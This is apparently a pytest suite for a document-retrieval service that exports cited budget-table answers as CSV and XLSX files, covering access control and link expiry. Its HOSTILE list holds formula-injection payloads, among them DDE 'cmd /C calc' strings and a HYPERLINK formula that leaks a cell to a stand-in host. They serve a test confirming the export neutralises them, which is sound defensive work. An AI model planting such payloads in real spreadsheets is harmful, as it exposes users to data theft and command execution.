"""v1 artifacts: a question over the demo corpus whose answer is a table of cited rows comes back with a CSV
and an XLSX that open with ``csv`` and openpyxl and hold exactly the answer's rows and the passages they
cite; the fetch is the asking principal's only, and ends with the configured time."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from retrieval.port import LocalRetrieverPort
from serve_app.catalog.artifacts import Sheet, cited_source_rows, files_of, to_csv, to_xlsx
from serve_app.wire.schemas import Citation, CitationPair, ClaimMapEntry
from tests.contract.checks import parse_sse, validate_against_schema
from tests.support.partners import Partners
from tests.support.service import client_for, config

QUESTION = "Berapa pagu Pajak Daerah dan Retribusi Daerah dalam lampiran APBA 2023?"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture()
def service(tmp_path: Path, demo_index: Path, demo_retriever: Any) -> Iterator[dict[str, Any]]:
    partners = Partners(tmp_path, {"a": "https://idp.mitra-a.example"})
    cfg = config(tmp_path, demo_index, partners_file=str(partners.path), artifacts={"ttl_s": 2.0})
    with client_for(cfg, demo_retriever) as client:
        yield {"client": client, "ana": partners.headers("a", "ana"), "budi": partners.headers("a", "budi")}


def _table_rows(body: dict[str, Any]) -> list[list[str]]:
    """The answer's table rows as the reader saw them, each with the chunk ids its claim cites."""
    rows = []
    for claim in body["claim_map"]:
        if " | " in claim["text"]:
            chunks = "; ".join(dict.fromkeys(p["citation"]["chunk_id"] for p in claim["citations"]))
            rows.append([*(c.strip() for c in claim["text"].split(" | ")), chunks])
    return rows


def test_v1_offers_csv_and_xlsx_holding_the_cited_rows(service: dict[str, Any]) -> None:
    client, ana = service["client"], service["ana"]
    response = client.post("/query", json={"query": QUESTION, "offer_artifacts": True}, headers=ana)
    assert response.status_code == 200
    body = response.json()
    validate_against_schema(body, "query_v1_response")
    expected = _table_rows(body)
    assert len(expected) >= 2 and all(row[-1] for row in expected), body["answer"]
    # One CSV and one XLSX for the answer's table; and, when its rows cite an ingested table (the demo's
    # annex CSV), one pair more with those cited source rows.
    answer_files = [a for a in body["artifacts"] if a["name"].startswith("tabel-jawaban-")]
    cited_files = [a for a in body["artifacts"] if a["name"].startswith("baris-dikutip-")]
    assert len(answer_files) + len(cited_files) == len(body["artifacts"])
    cites_dataset = any(
        p["citation"]["document_type"] == "Dataset" for c in body["claim_map"] for p in c["citations"]
    )
    assert {a["media_type"] for a in cited_files} == ({"text/csv", XLSX} if cites_dataset else set())
    assert all(a["rows"] == len(expected) for a in cited_files)
    offered = {a["media_type"]: a for a in answer_files}
    assert set(offered) == {"text/csv", XLSX} and len(answer_files) == 2

    got_csv = client.get(offered["text/csv"]["url"], headers=ana)
    assert got_csv.status_code == 200 and got_csv.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(got_csv.content.decode("utf-8"))))
    assert table[0][-2:] == ["sumber", "chunk_id"]
    assert [[*r[:-2], r[-1]] for r in table[1:]] == expected
    assert offered["text/csv"]["rows"] == len(expected)

    got_xlsx = client.get(offered[XLSX]["url"], headers=ana)
    assert got_xlsx.status_code == 200 and got_xlsx.headers["content-type"] == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(got_xlsx.content)).active
    assert sheet is not None
    cells = [[str(c.value) for c in row] for row in sheet.iter_rows()]
    assert cells == table, "the XLSX holds the same rows as the CSV"


def test_the_fetch_is_the_askers_only_and_ends_when_it_expires(service: dict[str, Any]) -> None:
    client = service["client"]
    asked = {"query": QUESTION, "offer_artifacts": True}
    body = client.post("/query", json=asked, headers=service["ana"]).json()
    url = body["artifacts"][0]["url"]
    assert client.get(url, headers=service["ana"]).status_code == 200
    other = client.get(url, headers=service["budi"])
    assert other.status_code == 404 and other.json()["error"] == "not_found"
    assert client.get(url).status_code == 401
    assert client.get("/artifacts/no-such-artifact", headers=service["ana"]).status_code == 404
    time.sleep(2.2)  # ttl_s is 2 in this config
    assert client.get(url, headers=service["ana"]).status_code == 404


def test_artifacts_only_when_asked_and_never_on_v2(service: dict[str, Any]) -> None:
    client, ana = service["client"], service["ana"]
    plain = client.post("/query", json={"query": QUESTION}, headers=ana).json()
    assert "artifacts" not in plain
    v2 = client.post("/query/v2", json={"query": QUESTION, "offer_artifacts": True}, headers=ana)
    assert v2.status_code == 422 and v2.json()["detail"][0]["field"] == "offer_artifacts"
    empty = client.post(
        "/query", json={"query": QUESTION, "offer_artifacts": True, "selection": "nothing"}, headers=ana
    ).json()
    assert empty["fallback_reason"] == "source_scope_empty" and empty["artifacts"] == []


def test_cited_rows_of_an_ingested_table_keep_its_header_and_order(demo_retriever: Any) -> None:
    doc = next(d for d in demo_retriever.documents() if d.source.endswith(".csv"))
    table = demo_retriever.table(doc.document_id)
    picked = [table.rows[3][0], table.rows[1][0]]
    def cites(chunk_id: str) -> ClaimMapEntry:
        citation = Citation(document_id=doc.document_id, chunk_id=chunk_id, citation_key="P1")
        pair = CitationPair(citation_key="P1", citation=citation)
        return ClaimMapEntry(
            start=0, end=0, start_utf16=0, end_utf16=0, text="", citation_keys=["P1"], citations=[pair]
        )

    claim_map = [cites(cid) for cid in picked]
    sheets = asyncio.run(cited_source_rows(claim_map, LocalRetrieverPort(demo_retriever)))
    assert len(sheets) == 1
    assert sheets[0].columns == [*table.columns, "chunk_id"]
    assert sheets[0].rows == [[*table.rows[1][1], table.rows[1][0]], [*table.rows[3][1], table.rows[3][0]]]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheets[0]))).active
    assert book is not None
    first = [c.value for c in next(book.iter_rows(min_row=2, max_row=2))]
    assert first[0] == table.rows[1][1][0], "an account code stays text"
    assert int(table.rows[1][1][4]) in first, "a plain amount becomes a number"
    assert [f.name for f in files_of(sheets)] == [f"{sheets[0].name}.csv", f"{sheets[0].name}.xlsx"]


def test_the_v1_stream_lists_the_files_before_done(service: dict[str, Any]) -> None:
    client, ana = service["client"], service["ana"]
    asked = {"query": QUESTION, "offer_artifacts": True}
    with client.stream("POST", "/query/stream", json=asked, headers=ana) as response:
        assert response.status_code == 200
        frames = parse_sse("".join(response.iter_text()))
    names = [name for name, _ in frames]
    assert names[-2:] == ["artifacts", "done"] and names.count("artifacts") == 1
    offered = frames[-2][1]["artifacts"]
    validate_against_schema(frames[-2][1], "event.artifacts")
    assert {a["media_type"] for a in offered} == {"text/csv", XLSX}
    got = client.get(next(a["url"] for a in offered if a["media_type"] == "text/csv"), headers=ana)
    assert got.status_code == 200 and "sumber" in got.content.decode("utf-8").splitlines()[0]
    with client.stream("POST", "/query/stream", json={"query": QUESTION}, headers=ana) as plain:
        assert "artifacts" not in [name for name, _ in parse_sse("".join(plain.iter_text()))]


HOSTILE = [
    "=HYPERLINK(\"http://contoh.invalid/?x=\"&A1,\"klik\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "-1e3",
    "-12,5 A1",
    "--1",
    "-+1",
    "-1,",
]


def test_formula_starts_are_neutralised_in_csv_and_xlsx() -> None:
    sheet = Sheet("uji", ["=kolom", "nilai"], [[cell, "7"] for cell in HOSTILE])
    table = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8"), newline="")))
    assert table[0] == ["'=kolom", "nilai"]
    assert [row[0] for row in table[1:]] == ["'" + cell for cell in HOSTILE]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheet)))
    ws = book.active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), "no cell is a formula"
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    # XML reads a stored carriage return back as a line feed; the leading ' is what matters
    expected = ["'" + c.replace("\r", "\n") for c in HOSTILE]
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == expected
    assert [c.value for c in cells if c.column == 2][1:] == [7] * len(HOSTILE)


def test_plain_negative_numbers_stay_usable() -> None:
    sheet = Sheet("uji", ["a", "b", "c"], [["-125", "-12,5", "-1.250.000"], ["12", "kas", "-"]])
    table = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8"), newline="")))
    assert table[1:] == [["-125", "-12,5", "-1.250.000"], ["12", "kas", "-"]]
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheet))).active
    assert ws is not None
    first = [c for c in next(ws.iter_rows(min_row=2, max_row=2))]
    assert [c.value for c in first] == [-125, "-12,5", "-1.250.000"]
    assert first[0].data_type == "n" and first[1].data_type == "s"  # a number, and text that is no formula
